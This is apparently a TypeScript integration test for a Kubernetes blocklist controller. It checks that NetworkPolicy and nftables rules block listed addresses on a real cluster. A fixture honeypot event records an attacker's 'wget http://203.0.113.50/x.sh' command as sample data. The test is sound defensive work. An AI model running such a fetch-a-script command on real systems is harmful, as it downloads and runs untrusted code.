// The whole promise on a real cluster (test/support/cluster.ts): the chart installed with the image built from
// the repository's Dockerfile, events in through the api-server, a BlocklistSubscription applied, and packets
// from listed addresses refused at a workload by the NetworkPolicy the controller writes, enforced by
// kube-router; the nftables file of its ConfigMap target loaded with `nft -f` drops them too. Clients are
// network namespaces with documentation addresses, routed to the workload's pod IP like hosts of the internet.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { CoreV1Api, CustomObjectsApi, NetworkingV1Api } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attachClient, execInPod, podReady, podReport, splitImage, startCluster, type Client, type Cluster, type RequestResult } from '../support/cluster.ts';
import { CHART, helmWithValues } from '../support/helm.ts';
import { eventually } from '../support/k8s.ts';
import { NODE } from '../support/node.ts';
import { startManaged, type ManagedProcess } from '../support/processes.ts';
import { startProtectedWeb } from '../support/protected-web.ts';

const RELEASE = 'blockfeed';
const SYSTEM = 'blockfeed';
const SUBSCRIPTIONS = 'subscriptions';
const PROTECTED = 'protected';
const INGEST_TOKEN = 'cluster-tier-ingest-token';

// Who is listed: two attackers (a login, a command); a third address only probed (a scanner, not an attacker,
// so outside the subscription's filters), and one that never appears.
const LISTED = ['192.0.2.30', '203.0.113.10'];
const UNLISTED = ['198.51.100.20', '203.0.113.99'];
const ALLOWLISTED = '203.0.113.10';

const report = (line: string) => console.log(`[cluster] ${line}`);

function nativeEvents(): string {
  const ts = new Date().toISOString();
  const event = (src: string, extra: object) => JSON.stringify({ ts, src_ip: src, dst_port: 22, service: 'ssh', source: 'honeypot', sensor: 'hp-cluster-1', ...extra });
  return [event('203.0.113.10', { username: 'root' }), event('192.0.2.30', { command: 'wget http://203.0.113.50/x.sh' }), event('203.0.113.99', {})].join('\n') + '\n';
}

describe('blockfeed on a real cluster', () => {
  let cluster: Cluster;
  let core: CoreV1Api;
  const clients = new Map<string, Client>();
  let workloadIp = '';
  let nftablesConf = '';

  const subscription = (allowlist: string[] = []) => ({
    apiVersion: 'blockfeed.dev/v1alpha1',
    kind: 'BlocklistSubscription',
    metadata: { name: 'attackers', namespace: SUBSCRIPTIONS },
    spec: {
      feed: {
        url: `http://${RELEASE}-api.${SYSTEM}.svc:8080`,
        endpoint: 'export',
        filters: { type: 'attacker', level: 'high', hours: 24 },
        credentials: { secretRef: { name: 'blockfeed-key', key: 'apiKey' } },
      },
      interval: '5m',
      allowlist,
      targets: [{ networkPolicy: { namespaceSelector: { matchLabels: { 'blockfeed.dev/protect': 'true' } } } }, { configMap: { name: 'attackers', formats: ['nftables'] } }],
    },
  });
  const bls = { group: 'blockfeed.dev', version: 'v1alpha1', namespace: SUBSCRIPTIONS, plural: 'blocklistsubscriptions' };

  /** Every client's request to `url`, in parallel, by client address. */
  async function outcomes(url: string): Promise<Map<string, RequestResult>> {
    return new Map(await Promise.all([...clients.values()].map(async (c) => [c.address, await c.request(url)] as const)));
  }

  function reportOutcomes(title: string, results: Map<string, RequestResult>) {
    report(title);
    for (const [address, r] of results) report(`  ${address.padEnd(15)} ${LISTED.includes(address) ? 'listed  ' : 'unlisted'}  ${r.outcome} (${r.detail})`);
  }

  beforeAll(async () => {
    cluster = await startCluster({ images: ['blockfeed', 'postgresql', 'busybox'], log: (line) => process.env.CLUSTER_TEST_VERBOSE && console.error(`[cluster] ${line}`) });
    report(`cluster ready in ${cluster.startMs} ms`);
    core = cluster.kc.makeApiClient(CoreV1Api);
    let i = 0;
    for (const address of [...LISTED, ...UNLISTED]) clients.set(address, await attachClient(cluster, i++, address));
  });

  afterAll(async () => {
    for (const c of clients.values()) await c.stop();
    await cluster?.stop();
  });

  it('installs the chart: api-server, controller and database Running and Ready, /readyz through the Service', async () => {
    const [repository, tag] = splitImage(cluster.images.blockfeed);
    const [dbRepository, dbTag] = splitImage(cluster.images.postgresql);
    const t0 = Date.now();
    const installed = await helmWithValues(['install', RELEASE, CHART, '--namespace', SYSTEM, '--create-namespace', '--kubeconfig', cluster.kubeconfigPath, '--wait', '--timeout', '5m'], {
      image: { repository, tag, pullPolicy: 'Never' },
      api: { replicas: 1, ingest: { enabled: true, token: INGEST_TOKEN } },
      database: { bundled: { image: { repository: dbRepository, tag: dbTag, pullPolicy: 'Never' } } },
      controller: { clusterCidrs: [NODE.podCidr, NODE.serviceCidr] },
    });
    expect(installed.code, `${installed.stderr}\n${await podReport(core, SYSTEM)}`).toBe(0);
    report(`helm install --wait: ${Date.now() - t0} ms`);

    const pods = (await core.listNamespacedPod({ namespace: SYSTEM })).items;
    const byComponent = new Map(pods.map((p) => [p.metadata?.labels?.['app.kubernetes.io/component'], p]));
    for (const component of ['api-server', 'controller', 'database']) {
      const pod = byComponent.get(component);
      expect(pod?.status?.phase, component).toBe('Running');
      expect(podReady(pod), component).toBe(true);
      expect(pod?.spec?.containers[0]?.image).toBe(component === 'database' ? cluster.images.postgresql : cluster.images.blockfeed);
    }

    const service = await core.readNamespacedService({ name: `${RELEASE}-api`, namespace: SYSTEM });
    const readyz = await cluster.node.run('curl', ['--silent', '--show-error', '--max-time', '5', `http://${service.spec?.clusterIP}:8080/readyz`]);
    expect(JSON.parse(readyz)).toEqual({ status: 'ready' });
    report(`/readyz through Service ${RELEASE}-api (${service.spec?.clusterIP}:8080): ${readyz.trim()}`);
  });

  it('runs kube-router with no port beyond loopback (its published advisories need its router or service proxy)', async () => {
    const listening = (await cluster.node.run('ss', ['--no-header', '--listening', '--tcp', '--udp', '--numeric', '--processes'])).trim().split('\n');
    // ss sees the node's daemons (kubelet's port at least), so an empty answer for kube-router means something.
    expect(listening.some((line) => line.includes('"kubelet"'))).toBe(true);
    const kubeRouter = listening.filter((line) => line.includes('"kube-router"'));
    report(`kube-router's listening sockets: ${kubeRouter.length === 0 ? 'none' : kubeRouter.join('; ')}`);
    for (const line of kubeRouter) expect(line.split(/\s+/)[4], line).toMatch(/^(127\.\d+\.\d+\.\d+|\[::1\]):\d+$/);
  });

  it('takes events in through the push route and creates a key with the CLI in the api-server pod', async () => {
    const service = await core.readNamespacedService({ name: `${RELEASE}-api`, namespace: SYSTEM });
    const pushed = await cluster.node.run(
      'curl',
      ['--silent', '--show-error', '--max-time', '10', '--data-binary', '@-', '-H', 'content-type: application/x-ndjson', '-H', `authorization: Bearer ${INGEST_TOKEN}`, `http://${service.spec?.clusterIP}:8080/internal/v1/events?format=native&sensor=hp-cluster-1`],
      { input: nativeEvents() },
    );
    expect(JSON.parse(pushed)).toMatchObject({ lines: 3, accepted: 3, rejected: 0 });

    const pod = (await core.listNamespacedPod({ namespace: SYSTEM, labelSelector: 'app.kubernetes.io/component=api-server' })).items[0];
    const created = await execInPod(cluster.kc, SYSTEM, pod!.metadata!.name!, 'api-server', ['blockfeed', 'keys', 'create', '--tier', 'enterprise', '--name', 'cluster-tier']);
    const apiKey = created.stdout.trim().split('\n').at(-1) ?? '';
    expect(apiKey).toMatch(/^bf_/);

    // The workload the subscription protects, and the key its feed uses.
    await core.createNamespace({ body: { metadata: { name: SUBSCRIPTIONS } } });
    await core.createNamespacedSecret({ namespace: SUBSCRIPTIONS, body: { metadata: { name: 'blockfeed-key' }, stringData: { apiKey } } });
    workloadIp = await startProtectedWeb(cluster, PROTECTED);
    expect(workloadIp).toMatch(/^10\.244\./);

    // Before any subscription, every client is answered: the path from each of them works.
    const before = await outcomes(`http://${workloadIp}:8080/`);
    reportOutcomes(`before the subscription, to the workload's pod ${workloadIp}:8080`, before);
    for (const [address, r] of before) expect(r.outcome, address).toBe('answered');
  });

  it('refuses the listed addresses at the workload once the subscription is applied, and answers the others', async () => {
    const objects = cluster.kc.makeApiClient(CustomObjectsApi);
    const listedClient = clients.get(LISTED[0]!)!;
    const t0 = Date.now();
    await objects.createNamespacedCustomObject({ ...bls, body: subscription() });
    // The first request from a listed address that is not answered (a figure for the note, not an assertion).
    let probes = 0;
    for (;;) {
      probes++;
      const r = await listedClient.request(`http://${workloadIp}:8080/`, 1);
      if (r.outcome !== 'answered') break;
      if (Date.now() - t0 > 120_000) throw new Error('listed address still answered 2 minutes after the subscription');
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    report(`time from applying the subscription to the first refused request from ${LISTED[0]}: ${Date.now() - t0} ms (${probes} probes)`);

    const after = await outcomes(`http://${workloadIp}:8080/`);
    reportOutcomes('with the subscription', after);
    for (const address of LISTED) expect(after.get(address)?.outcome, address).not.toBe('answered');
    for (const address of UNLISTED) expect(after.get(address)?.outcome, address).toBe('answered');

    const sub = await eventually(async () => {
      const got = (await objects.getNamespacedCustomObject({ ...bls, name: 'attackers' })) as { status?: { entries?: number; conditions?: { type: string; status: string }[] } };
      return got.status?.conditions?.some((c) => c.type === 'Ready' && c.status === 'True') ? got : undefined;
    }, 60_000, 'the subscription Ready');
    expect(sub.status?.entries).toBe(LISTED.length);
    const policies = (await cluster.kc.makeApiClient(NetworkingV1Api).listNamespacedNetworkPolicy({ namespace: PROTECTED })).items;
    expect(policies).toHaveLength(1);
    expect(policies[0]?.spec?.ingress?.[0]?._from?.[0]?.ipBlock?.except).toEqual(LISTED.map((a) => `${a}/32`));
    nftablesConf = (await core.readNamespacedConfigMap({ name: 'attackers', namespace: SUBSCRIPTIONS })).data?.['nftables.conf'] ?? '';
    expect(nftablesConf).toContain('add table inet blockfeed');
  });

  it("drops the listed sources with the ConfigMap's nftables file loaded by nft -f on a host, passes the others", async () => {
    // A host of its own on the node's network: the file as the controller wrote it, plus the rule a user adds
    // to use its sets, then busybox httpd.
    const server = await attachClient(cluster, 9, '198.51.100.80');
    let httpd: ManagedProcess | undefined;
    let www: string | undefined;
    try {
      await server.ns.run('nft', ['-f', '-'], { input: nftablesConf });
      await server.ns.run('nft', ['-f', '-'], {
        input: [
          'add chain inet blockfeed input { type filter hook input priority filter; policy accept; }',
          'add rule inet blockfeed input ip saddr @blocklist_v4 drop',
          'add rule inet blockfeed input ip6 saddr @blocklist_v6 drop',
          '',
        ].join('\n'),
      });
      www = await makeWebRoot();
      httpd = startManaged('busybox httpd', ...server.ns.command('busybox', ['httpd', '-f', '-p', '8080', '-h', www]));
      await eventually(async () => ((await clients.get(UNLISTED[0]!)!.request('http://198.51.100.80:8080/', 1)).outcome === 'answered' ? true : undefined), 10_000, 'httpd on the nftables host');

      const results = await outcomes('http://198.51.100.80:8080/');
      reportOutcomes('to a host with the nftables file loaded (198.51.100.80:8080)', results);
      for (const address of LISTED) expect(results.get(address)?.outcome, address).toBe('timed out');
      for (const address of UNLISTED) expect(results.get(address)?.outcome, address).toBe('answered');
    } finally {
      await httpd?.stop();
      await server.stop();
      if (www) await rm(www, { recursive: true, force: true });
    }
  });

  it('answers an address again once it is in spec.allowlist, after the sync the change starts', async () => {
    const objects = cluster.kc.makeApiClient(CustomObjectsApi);
    const current = (await objects.getNamespacedCustomObject({ ...bls, name: 'attackers' })) as { metadata: { resourceVersion: string } };
    const t0 = Date.now();
    await objects.replaceNamespacedCustomObject({
      ...bls,
      name: 'attackers',
      body: { ...subscription([ALLOWLISTED]), metadata: { ...subscription().metadata, resourceVersion: current.metadata.resourceVersion } },
    });
    await eventually(async () => ((await clients.get(ALLOWLISTED)!.request(`http://${workloadIp}:8080/`, 1)).outcome === 'answered' ? true : undefined), 120_000, `${ALLOWLISTED} answered`);
    report(`${ALLOWLISTED} answered ${Date.now() - t0} ms after it was added to spec.allowlist`);

    const results = await outcomes(`http://${workloadIp}:8080/`);
    reportOutcomes(`with ${ALLOWLISTED} in spec.allowlist`, results);
    for (const address of LISTED.filter((a) => a !== ALLOWLISTED)) expect(results.get(address)?.outcome, address).not.toBe('answered');
    for (const address of [ALLOWLISTED, ...UNLISTED]) expect(results.get(address)?.outcome, address).toBe('answered');
  });

  it('answers everyone once the subscription is deleted, and the objects it wrote are gone', async () => {
    const objects = cluster.kc.makeApiClient(CustomObjectsApi);
    await objects.deleteNamespacedCustomObject({ ...bls, name: 'attackers' });
    await eventually(
      async () => {
        const policies = (await cluster.kc.makeApiClient(NetworkingV1Api).listNamespacedNetworkPolicy({ namespace: PROTECTED })).items;
        const maps = (await core.listNamespacedConfigMap({ namespace: SUBSCRIPTIONS, labelSelector: 'app.kubernetes.io/managed-by=blockfeed-controller' })).items;
        return policies.length === 0 && maps.length === 0 ? true : undefined;
      },
      120_000,
      'the NetworkPolicy and the ConfigMap deleted',
    );
    const results = await eventually(async () => {
      const r = await outcomes(`http://${workloadIp}:8080/`);
      return [...r.values()].every((x) => x.outcome === 'answered') ? r : undefined;
    }, 60_000, 'every client answered');
    reportOutcomes('after the subscription was deleted', results);
  });
});

/** A directory with an index.html for busybox httpd (the host's filesystem: the namespace sees it). */
async function makeWebRoot(): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), 'blockfeed-www-'));
  await writeFile(path.join(dir, 'index.html'), 'nftables host\n');
  return dir;
}
